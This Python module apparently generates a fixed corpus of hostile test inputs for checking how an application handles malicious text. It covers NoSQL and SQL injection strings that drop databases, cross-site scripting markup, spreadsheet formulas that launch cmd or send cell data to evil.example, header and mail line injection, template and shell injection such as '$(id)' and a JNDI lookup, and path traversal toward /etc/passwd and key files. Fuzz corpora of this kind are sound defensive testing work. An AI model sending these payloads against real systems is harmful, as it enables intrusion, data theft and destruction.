"""What somebody types who means harm, by kind: more than two thousand texts, each another one, always the same."""

from collections.abc import Iterator
from itertools import product
from random import Random

OPERATORS = (
    *("$eq", "$ne", "$gt", "$gte", "$lt", "$lte", "$in", "$nin", "$exists", "$type", "$regex", "$options", "$where"),
    *("$expr", "$jsonSchema", "$mod", "$text", "$all", "$elemMatch", "$size", "$and", "$or", "$nor", "$not", "$set"),
    *("$unset", "$inc", "$push", "$pull", "$rename", "$function", "$accumulator", "$lookup", "$out", "$merge"),
)
"""Of MongoDB: to compare, to combine, to change and to run code."""

_OPERANDS = ("null", '""', "1", "[]", "{}", '".*"', '"sleep(5000)"', '"function(){while(1){}}"')


def nosql() -> Iterator[str]:
    """Operators in the shapes that a careless parser turns into a query."""
    for operator, operand in product(OPERATORS, _OPERANDS):
        yield f'{{"{operator}": {operand}}}'
    for operator in OPERATORS:
        yield from (operator, f"[{operator}]=1", f"'; return {operator} //", f"\\u0024{operator[1:]}")
    yield from ("'||'1'=='1", "1; db.dropDatabase()", "Robert'); db.dropDatabase()", "this.password.match(/.*/)//")
    yield from ("' OR 1=1 --", '" OR ""="', "'; DROP TABLE registrations; --", "__proto__", "constructor.prototype")


_MARKS = (
    *("script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "input", "details", "marquee"),
    *("math", "style", "link", "base", "form", "a", "meta", "template", "isindex", "textarea", "title", "noscript"),
)
_REASONS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
_WAYS_OUT = ("", '">', "'>", "-->", "</title>", "</textarea>", "]]>", "</script>", "`>", "</style>", "\\'>", "&quot;>")
_ADDRESSES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    *(
        "vbscript:msgbox(1)",
        "//evil.example",
        "https://evil.example",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
    ),
)


def scripts() -> Iterator[str]:
    """Markup for pages, attributes, scripts, XML and mails."""
    for mark, reason in product(_MARKS, _REASONS):
        yield f"<{mark} src=x {reason}=alert(1)>"
    for way, mark in product(_WAYS_OUT, _MARKS[:12]):
        yield f"{way}<{mark}>alert(1)</{mark}>"
    for way, reason in product(_WAYS_OUT, _REASONS):
        yield f"{way[:-1]} {reason}=alert(1) autofocus x="
    for address in _ADDRESSES:
        yield from (address, f'<a href="{address}">x</a>', f"<iframe src='{address}'>", f"[x]({address})")
    yield from ("<ScRiPt >alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<script\x0d>alert(1)</script>")
    yield from ("&lt;script&gt;alert(1)&lt;/script&gt;", "\u003cscript\u003e", "%3Cscript%3Ealert(1)%3C/script%3E")
    yield from ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "<?xml-stylesheet href='//evil'?>", "<!--")


_FORMULAS = (
    *("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1)', "1+1", "SUM(A1:A9)", 'IMPORTXML("http://evil")'),
    *('WEBSERVICE("http://evil")', 'DDE("cmd";"/C calc";"x")', "10+cmd|'/c calc'!A1", "A1", "rundll32|'x'!A"),
)


def formulas() -> Iterator[str]:
    """What a spreadsheet would calculate."""
    for start, formula in product(("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", ";=", '"=', "＝", "%0A="), _FORMULAS):
        yield start + formula


_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "%0A", "\u2028", "\u2029", "\x85", "\v", "\f", "\\r\\n", "嘊嘍")
_LINES = (
    *("Bcc: everybody@evil.example", "Subject: you won", "Content-Type: text/html", "Set-Cookie: rencontres_staff=x"),
    *("Location: https://evil.example", "\r\nGET /equipe HTTP/1.1", ".\r\nMAIL FROM:<evil@evil.example>", "END:VEVENT"),
    *("ATTACH:https://evil.example", "X-Accel-Redirect: /etc/passwd", "RCPT TO:<evil@evil.example>", "<html>"),
)


def lines() -> Iterator[str]:
    """A line more, in a header, in a mail, in a calendar, in a log."""
    for end, line in product(_BREAKS, _LINES):
        yield f"Solène{end}{line}"
    for line in ('{"event": "staff.admitted", "level": "info"}', "\x1b[2J\x1b[31mroot", "2026-07-08 ERROR"):
        yield f"x\n{line}"


_LANGUAGES = (
    *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%25 7*7 %25}", "*{7*7}", "@(7*7)", "{7*7}", "[[7*7]]", "%{7*7}"),
    *(
        "{{config}}",
        "{{self.__init__.__globals__}}",
        "{nom.__class__.__init__.__globals__}",
        "{0.__class__}",
        "{nom!r}",
    ),
    *("{{''.__class__.__mro__[1].__subclasses__()}}", "%(name)s", "%s%s%s%n", "%n%n%n%n", "${jndi:ldap://evil/x}"),
    *(
        '#read("/etc/passwd")',
        '#import "/etc/passwd": *',
        '#include "x.typ"',
        '#eval("1")',
        "$ x^2 $",
        "#set page(1cm)",
    ),
    *(
        "#while true {}",
        "*bold* _it_ `raw`",
        "= Heading",
        "<label>",
        "@ref",
        "\\u{202e}",
        "#(1+1)",
        '#image("/etc/passwd")',
    ),
    *(
        "$(id)",
        "`id`",
        "; cat /etc/passwd",
        "| id",
        "&& id",
        "\\input{/etc/passwd}",
        "\\write18{id}",
        "!!python/object:x",
    ),
)


def expressions() -> Iterator[str]:
    """What a template, a typesetter or a shell would work out."""
    for expression in _LANGUAGES:
        yield from (expression, f"Solène {expression} Kervadec", expression * 7)


_FILES = (
    "etc/passwd",
    "etc/passwd%00.css",
    "proc/self/environ",
    "app.py",
    "var/keys.json",
    "windows/win.ini",
    "access.json",
)
_UP = (
    "../",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "..;/",
    "..\\",
    "..%5c",
    "....//",
    "%c0%ae%c0%ae/",
    "..%c0%af",
)


def paths() -> Iterator[str]:
    """Ways out of a folder, encoded once, twice and wrongly."""
    for up, file, often in product(_UP, _FILES, (1, 3, 8)):
        yield up * often + file
    yield from (
        "/etc/passwd",
        "file:///etc/passwd",
        "%00",
        "%0d%0aSet-Cookie:x=1",
        ".git/config",
        ".env",
        "//",
        "/./",
        "%",
    )
    yield from (
        "%ff%fe",
        "%ed%a0%80",
        "%c0%80",
        "%u002e",
        "CON",
        "a" * 4000,
        "%2F" * 500,
        "%25" * 300,
        "?",
        "%3f",
        "%23",
    )


_WORDS = (
    "Razafindrakoto Ňýß",
    "Nguyễn Thị Minh Khai",
    "محمد بن سلمان",
    "ნინო ბერიძე",
    "山田　太郎",
    "👩🏽‍🚒🏳️‍🌈",
    "O’Brien-Smith",
)
_SIGNS = (
    *(
        "\u202e",
        "\u200b",
        "\u200d",
        "\u2066",
        "\u2069",
        "\ufeff",
        "\u00ad",
        "\u034f",
        "\u061c",
        "\u2028",
        "\u115f",
        "\u3164",
    ),
    *(
        "\x00",
        "\x01",
        "\x07",
        "\x08",
        "\x1b",
        "\x7f",
        "\x80",
        "\x9f",
        "\ud800",
        "\udfff",
        "\udbff",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
    ),
    *(
        "\U000e0041",
        "\ufdd0",
        "\u0301",
        "\u0489",
        "\ufe0f",
        "\u1680",
        "\u3000",
        "\u2800",
        "\ue000",
        "\U000f0000",
        "ﷺ",
        "İ",
        "ß",
        "ﬁ",
    ),
)


def signs() -> Iterator[str]:
    """Scripts of the world, and signs that hide, turn, combine, or are none."""
    yield from _WORDS
    for word, sign in product(_WORDS, _SIGNS):
        yield f"{word[:3]}{sign}{word[3:]}"
    for sign in _SIGNS:
        yield from (sign, sign * 20)
    yield from (
        "a" + "\u0301" * 1000,
        "e\u0301\u0323" * 300,
        "Z̷̢̛" * 60,
        "x" * 61,
        "x" * 100_000,
        "é" * 100_000,
        " " * 5000,
    )
    chance = Random(4)  # noqa: S311 - repeatable
    for _ in range(200):
        yield "".join(chr(chance.choice((chance.randrange(0x20), chance.randrange(0x3000)))) for _ in range(12))


KINDS = {
    "nosql": nosql,
    "scripts": scripts,
    "formulas": formulas,
    "lines": lines,
    "expressions": expressions,
    "paths": paths,
    "signs": signs,
}


def all_texts() -> dict[str, list[str]]:
    """Every text once, under the first kind that has it."""
    seen: set[str] = set()
    found: dict[str, list[str]] = {}
    for kind, make in KINDS.items():
        texts = list(dict.fromkeys(text for text in make() if text not in seen))
        seen.update(texts)
        found[kind] = texts
    return found
